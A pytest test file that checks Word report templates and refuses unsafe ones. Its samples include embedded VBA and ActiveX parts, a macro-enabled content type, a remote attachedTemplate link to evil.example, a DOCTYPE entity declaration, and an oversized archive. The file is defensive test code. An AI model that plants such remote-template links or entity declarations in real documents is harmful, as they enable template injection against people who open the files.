"""Documents that a report cannot be set into are refused, each for its reason, before anything is made of them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import pytest

from ctrack.exchange import word_template
from ctrack.exchange.word_template import TemplateFault, check_template
from ctrack.render.docx.starter import make_starter

BODY, RELS = "word/document.xml", "word/_rels/document.xml.rels"


def rebuilt(changes: Mapping[str, tuple[str, str]], more: Mapping[str, bytes] | None = None) -> bytes:
    """The starter with texts of its parts changed and parts added."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_starter("en"))) as source, zipfile.ZipFile(content, "w") as target:
        for name in source.namelist():
            old, new = changes.get(name, ("", ""))
            text = source.read(name)
            assert old.encode() in text
            target.writestr(name, text.replace(old.encode(), new.encode()) if old else text)
        for name, text in (more or {}).items():
            target.writestr(name, text)
    return content.getvalue()


REMOTE = (
    '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dot" TargetMode="External"/>'
)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "no whole document"),
        (b"PK\x03\x04 and no more", "no whole document"),
        (rebuilt({BODY: ("{{report}}", "nothing")}), "one paragraph that holds {{report}}"),
        (rebuilt({BODY: ("{{report}}", "{{report}}</w:t></w:r></w:p><w:p><w:r><w:t>{{report}}")}), "one paragraph"),
        (rebuilt({"word/header1.xml": ("{{country}}", "{{report}}")}), "one paragraph"),
        (rebuilt({"word/header1.xml": ("{{country}}", "{{contry}}")}), "no place {{contry}}"),
        (rebuilt({}, {"word/vbaProject.bin": b"x"}), "holds a program"),
        (rebuilt({}, {"word/activeX/activeX1.bin": b"x"}), "holds a program"),
        (rebuilt({"[Content_Types].xml": ("wordprocessingml.document.main", "document.macroEnabled.main")}), "program"),
        (rebuilt({RELS: ("</Relationships>", f"{REMOTE}</Relationships>")}), "fetches http://evil.example/a.dot"),
        (rebuilt({BODY: ("<w:document", "<!DOCTYPE x [<!ENTITY a 'b'>]><w:document")}), "no whole document"),
        (rebuilt({BODY: ("<w:body>", "<w:body><w:p>")}), "no whole document"),
    ],
)
def test_refusals(content: bytes, said: str) -> None:
    """Each has one reason, and nothing of it is used."""
    with pytest.raises(TemplateFault) as caught:
        check_template(content)
    reason = caught.value.reason
    assert said in reason.template.format(**reason.facts)


def test_an_archive_without_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """What would take too much room unpacked is not unpacked, nor what has too many parts."""
    monkeypatch.setattr(word_template, "MOST_UNPACKED", 100_000)
    with pytest.raises(TemplateFault):
        check_template(rebuilt({}, {"word/media/a.bin": b"\0" * 100_001}))
    monkeypatch.setattr(word_template, "MOST_PARTS", 3)
    with pytest.raises(TemplateFault):
        check_template(make_starter("en"))


def test_a_link_waits_for_a_hand() -> None:
    """A link in a letterhead is no reason to refuse it, and the starter is none."""
    link = REMOTE.replace("attachedTemplate", "hyperlink")
    check_template(rebuilt({RELS: ("</Relationships>", f"{link}</Relationships>")}))
    check_template(make_starter("ar"))
